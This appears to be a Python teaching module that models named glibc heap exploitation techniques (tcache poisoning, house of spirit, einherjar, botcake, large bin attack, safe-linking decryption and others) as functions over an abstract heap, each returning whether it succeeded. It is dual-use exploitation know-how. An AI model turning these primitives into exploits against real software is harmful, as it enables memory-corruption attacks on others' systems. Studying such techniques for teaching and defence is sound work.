"""Heap exploitation techniques as they are known by name (shellphish's how2heap lists them for
glibc 2.36), written for this course: each a program over a heap `h` that returns whether it
succeeded, with what its step of success is in its docstring.

h: malloc(n), calloc(n), free(a), put(a, *words) and get(a) for the words of memory, `area`: memory
of the program that is no heap (a variable on the stack, say), page aligned.
"""


def fill(h, n, count=7):
    """Blocks that will fill a bin of the tcache once they are freed."""
    return [h.malloc(n) for _ in range(count)]


def free_all(h, blocks):
    for a in blocks:
        h.free(a)


def linked(place, target):
    """What is stored at `place` as the link to `target`: safe linking."""
    return place >> 12 ^ target


def fastbin_dup(h):
    """One block is handed out twice."""
    free_all(h, fill(h, 8))
    a, b, _ = (h.calloc(8) for _ in range(3))
    free_all(h, (a, b, a))
    return h.calloc(8) == a and h.calloc(8) == b and h.calloc(8) == a


def fastbin_dup_into_stack(h):
    """malloc returns an address in the area, where the program forged a size."""
    free_all(h, fill(h, 8))
    a, b, _ = (h.calloc(8) for _ in range(3))
    free_all(h, (a, b, a))
    h.put(h.area + 8, 0x20)
    d = h.calloc(8)
    h.calloc(8)
    h.put(d, linked(d, h.area))
    h.calloc(8)
    return h.calloc(8) == h.area + 16


def fastbin_dup_consolidate(h):
    """A block in a fastbin is consolidated into top, freed again and handed out twice."""
    filled = fill(h, 0x40)
    a = h.calloc(0x40)
    free_all(h, filled)
    h.free(a)
    b = h.malloc(0x400)
    h.free(a)
    return b == a and h.malloc(0x400) == a


def unsafe_unlink(h):
    """A pointer in the area is made to point beside itself."""
    first, second = h.malloc(0x420), h.malloc(0x420)
    h.put(h.area, first)
    fake = first
    h.put(fake + 8, 0x420)
    h.put(fake + 16, h.area - 24, h.area - 16)
    h.put(second - 16, 0x420, h.get(second - 8) & ~1)
    h.free(second)
    return h.get(h.area) == h.area - 24


def house_of_spirit(h):
    """A forged chunk in the area is freed into a fastbin and handed out."""
    free_all(h, fill(h, 0x30))
    h.put(h.area + 8, 0x40)
    h.put(h.area + 0x48, 0x1234)
    h.free(h.area + 16)
    return h.calloc(0x30) == h.area + 16


def tcache_house_of_spirit(h):
    """The same into the tcache: no neighbour is looked at."""
    h.malloc(1)
    h.put(h.area + 8, 0x40)
    h.free(h.area + 16)
    return h.malloc(0x30) == h.area + 16


def poison_null_byte(h):
    """A zero byte written behind a block makes the next one swallow a block in use."""
    h.malloc(0x10)
    prev, victim = h.malloc(0x500), h.malloc(0x4F0)
    h.malloc(0x10)
    fake = prev
    h.put(fake, 0, 0x500, fake, fake)
    h.put(prev + 0x500, 0x500)
    h.put(victim - 8, h.get(victim - 8) & ~0xFF)
    h.free(victim)
    merged = h.malloc(0x9F0 - 8)
    return prev < merged < prev + 0x500


def poison_null_byte_with_what_was_left(h):
    """The same as it is published for 2.31 and later: the links of the forged chunk are not
    written, they lie in the block since it was in a large bin; only their low bytes are."""

    def low_bytes(at):
        h.put(at, h.get(at) & ~0xFFFF | 0x10)

    pad = h.malloc(1)
    h.malloc(0x10000 - (pad & 0xFFFF) - 0x20)
    prev, victim = h.malloc(0x500), h.malloc(0x4F0)
    h.malloc(0x10)
    a, _, b, _ = (h.malloc(n) for n in (0x4F0, 0x10, 0x510, 0x10))
    free_all(h, (a, b, prev))
    h.malloc(0x1000)  # all three go to large bins
    h.malloc(0x500)
    h.put(prev + 8, 0x501)
    h.put(prev + 0x500, 0x500)
    low_bytes(h.malloc(0x510))
    free_all(h, (h.malloc(0x4F0), victim))
    low_bytes(h.malloc(0x4F0) + 8)
    victim = h.malloc(0x4F0)
    h.put(victim - 8, h.get(victim - 8) & ~0xFF)
    h.free(victim)
    return h.malloc(0x100) == prev + 0x10


def house_of_lore(h):
    """A small bin's list is led into the area."""
    victim = h.malloc(0x100)
    filled = fill(h, 0x100)
    fake, other = h.area, h.area + 0x40
    free_list = [h.area + 0x200 + i * 0x20 for i in range(7)]
    for here, after in zip(free_list, free_list[1:], strict=False):
        h.put(here + 0x18, after)
    h.put(free_list[-1] + 0x18, 0)
    h.put(fake, 0, 0, victim - 16, other)
    h.put(other, 0, 0, fake, free_list[0])
    h.malloc(1000)
    free_all(h, filled)
    h.free(victim)
    h.malloc(1200)
    h.put(victim + 8, fake)
    fill(h, 0x100)
    first = h.malloc(0x100)
    return first == victim and h.malloc(0x100) == free_list[4] + 16


def overlapping_chunks(h):
    """A size is enlarged before its chunk is freed; the next block overlaps a living one."""
    a, b, c = h.malloc(0x80 - 8), h.malloc(0x500 - 8), h.malloc(0x80 - 8)
    h.put(b - 8, 0x581)
    h.free(b)
    d = h.malloc(0x580 - 8)
    return a < d == b and d <= c < d + 0x580


def mmap_overlapping_chunks(h):
    """Two mappings are given back as one, and the next mapping overlaps a living block."""
    h.malloc(0x10)
    h.malloc(0x100000)
    second, third = h.malloc(0x100000), h.malloc(0x100000)
    size = h.get(third - 8) & ~7
    h.put(third - 8, (size + (h.get(second - 8) & ~7)) | 2)
    h.free(third)
    big = h.malloc(0x300000)
    return big < second < big + 0x300000


def mapped_header_put_back(h):
    """A mapped block whose header was overwritten and restored can be freed."""
    a = h.malloc(0x100000)
    header = h.get(a - 8)
    h.put(a - 8, 0x4141414141414141)
    h.put(a - 8, header)
    h.free(a)
    return True


def house_of_einherjar(h):
    """A chunk merges backwards over a block in use, and malloc then returns the area."""
    a, b, c = h.malloc(0x38), h.malloc(0x28), h.malloc(0xF8)
    h.put(a, 0, 0x60, a, a)
    h.put(b + 0x20, 0x60)
    h.put(c - 8, h.get(c - 8) & ~0xFF)
    free_all(h, fill(h, 0xF8))
    h.free(c)
    d = h.malloc(0x158)
    pad = h.malloc(0x28)
    free_all(h, (pad, b))
    h.put(d + 0x30, linked(d + 0x30, h.area))
    h.malloc(0x28)
    return h.malloc(0x28) == h.area


def tcache_poisoning(h):
    """malloc returns the area, after one link was overwritten."""
    a, b = h.malloc(128), h.malloc(128)
    free_all(h, (a, b))
    h.put(b, linked(b, h.area))
    return h.malloc(128) == b and h.malloc(128) == h.area


def house_of_botcake(h):
    """One chunk lies in the tcache and, merged, in the unsorted list."""
    filled = fill(h, 0x100)
    prev, a = h.malloc(0x100), h.malloc(0x100)
    h.malloc(0x10)
    free_all(h, (*filled, a, prev))
    h.malloc(0x100)
    h.free(a)
    b = h.malloc(0x120)
    h.put(b + 0x110, linked(a, h.area))
    return h.malloc(0x100) == a and h.malloc(0x100) == h.area


def tcache_stashing_unlink(h):
    """While a small bin's chunks are stashed, a forged one comes along."""
    h.put(h.area + 0x18, h.area + 0x20)
    blocks = fill(h, 0x90, 9)
    free_all(h, (*blocks[3:9], blocks[1], blocks[0], blocks[2]))
    h.malloc(0xA0)
    h.malloc(0x90)
    h.malloc(0x90)
    h.put(blocks[2] + 8, h.area)
    h.calloc(0x90)
    return h.malloc(0x90) == h.area + 16


def large_bin_attack(h):
    """Putting a chunk into a large bin writes its address into the area."""
    a = h.malloc(0x428)
    h.malloc(0x18)
    b = h.malloc(0x418)
    h.malloc(0x18)
    h.free(a)
    h.malloc(0x438)
    h.free(b)
    h.put(a + 24, h.area - 0x20)
    h.malloc(0x438)
    return h.get(h.area) == b - 16


def fastbin_reverse_into_tcache(h):
    """While a fastbin is stashed, its overwritten link leads into the area, which is written to."""
    blocks = fill(h, 0x40, 14)
    free_all(h, blocks)
    victim = blocks[7]
    h.put(victim, linked(victim, h.area))
    h.put(h.area + 16, linked(h.area + 16, 0))
    fill(h, 0x40)
    h.malloc(0x40)
    return h.malloc(0x40) == h.area + 16


def decrypt_safe_linking(h):
    """Within a page the link tells, bit by bit, where it points."""
    a, b = h.malloc(0x18), h.malloc(0x18)
    free_all(h, (a, b))
    link, plain = h.get(b), 0
    for i in range(1, 6):
        bits = max(64 - 12 * i, 0)
        plain = (link ^ plain >> 12) >> bits << bits
    return plain == a


def unsorted_bin_leak(h):
    """A freed block shows where libc lies; taken again it still does."""
    a = h.malloc(0x500)
    h.malloc(0x10)
    h.free(a)
    head = h.get(a)
    return h.malloc(0x500) == a and head == h.get(a) == h.get(a + 8) and head > 1 << 46


def unsorted_bin_attack(h):
    """Before 2.29 this wrote into the area; now malloc stops."""
    a = h.malloc(0x410)
    h.malloc(500)
    h.free(a)
    h.put(a + 8, h.area - 16)
    h.malloc(0x410)
    return True


def house_of_force(h):
    """Before 2.29 an enormous top let malloc reach everything; now malloc stops."""
    a = h.malloc(0x18)
    h.put(a + 0x18, (1 << 64) - 1)
    h.malloc(0x1000)
    return True


def sysmalloc_int_free(h):
    """top, made small, is freed when the heap must grow; nobody called free."""
    a = h.malloc(0x18)
    top = a + 0x10 + 8
    h.put(top, h.get(top) & 0xFFF)
    h.malloc(0x1000)
    old = h.malloc(0x500)
    return old == a + 0x20


def house_of_tangerine(h):
    """The same twice, without one free, and the chunks go to the tcache: its link is poisoned."""
    a = h.malloc(0x10)
    top = a + 0x18
    rest = h.get(top) & 0xFFF
    h.malloc(rest - 0x90 - 0x10 - 0x10)
    p = h.malloc(0x20)
    top = p + 0x28
    h.put(top, h.get(top) & 0xFFF)
    h.malloc(0x2000)
    return h.malloc(8) is not None


def house_of_water(h):
    """The counts of the tcache's table read as the size of a chunk, 0x10001, at the heap's start.

    Two blocks of 0x3D8 and 0x3E8 bytes in the tcache are what sets them.
    """
    free_all(h, (h.malloc(0x3D8), h.malloc(0x3E8)))
    start = h.malloc(0x10) & ~0xFFF
    return h.get(start + 0x88) == 0x10001


def house_of_mind(h):
    """A chunk that says it is of another arena is looked for in memory that does not exist."""
    a = h.malloc(0x500)
    h.malloc(0x10)
    h.put(a - 8, h.get(a - 8) | 4)
    h.free(a)
    return True


def tcache_dup_after_key(h):
    """A block is freed twice into the tcache once its key is overwritten."""
    a = h.malloc(0x20)
    h.free(a)
    h.put(a + 8, 0)
    h.free(a)
    return h.malloc(0x20) == h.malloc(0x20) == a


TECHNIQUES = [
    fastbin_dup, fastbin_dup_into_stack, fastbin_dup_consolidate, unsafe_unlink, house_of_spirit,
    tcache_house_of_spirit, poison_null_byte, poison_null_byte_with_what_was_left, house_of_lore,
    overlapping_chunks, mmap_overlapping_chunks, mapped_header_put_back, house_of_einherjar,
    tcache_poisoning, house_of_botcake, tcache_stashing_unlink, large_bin_attack,
    fastbin_reverse_into_tcache, decrypt_safe_linking, unsorted_bin_leak, unsorted_bin_attack,
    house_of_force, sysmalloc_int_free, house_of_tangerine, house_of_water, house_of_mind,
    tcache_dup_after_key,
]  # fmt: skip
